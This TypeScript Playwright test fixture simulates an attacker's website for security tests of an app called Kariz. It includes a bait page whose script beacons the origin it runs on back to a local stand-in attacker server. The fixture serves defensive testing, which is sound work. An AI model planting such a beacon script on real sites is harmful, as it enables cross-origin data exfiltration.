// Somebody else's website: a page of another origin, which knows where Kariz is and does what any page may do.

import type { BrowserContext, Page } from "@playwright/test";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";

export class Outsider {
  /** What was reported to the website, by pages and by scripts. */
  readonly heard: string[] = [];
  /** Its own address. */
  url = "";
  readonly #server = createServer((request, response) => {
    const report = /^\/heard\?(.*)/.exec(request.url ?? "")?.[1];
    if (report !== undefined) this.heard.push(decodeURIComponent(report));
    response.writeHead(200, { "content-type": "text/html", "access-control-allow-origin": "*" });
    response.end("<!doctype html><title>Win a prize</title>");
  });

  /** Kariz is at 127.0.0.1: that host with another port is another origin of the same site, "localhost" another site. */
  static async create(host: "127.0.0.1" | "localhost"): Promise<Outsider> {
    const outsider = new Outsider();
    await new Promise<void>((ready) => outsider.#server.listen(0, "127.0.0.1", ready));
    outsider.url = `http://${host}:${(outsider.#server.address() as AddressInfo).port}/`;
    return outsider;
  }

  /** A page that reports the origin on which its script runs. */
  get trap(): { name: string; html: string } {
    const script = `new Image().src = "${this.url}heard?" + encodeURIComponent("a script runs on " + origin)`;
    return { name: "prize.html", html: `<!doctype html><title>Owned</title><script>${script}</script>` };
  }

  /** Somebody visits it. */
  async visit(context: BrowserContext): Promise<Page> {
    const page = await context.newPage();
    await page.goto(this.url);
    return page;
  }

  stop(): void {
    this.#server.close();
    this.#server.closeAllConnections();
  }
}
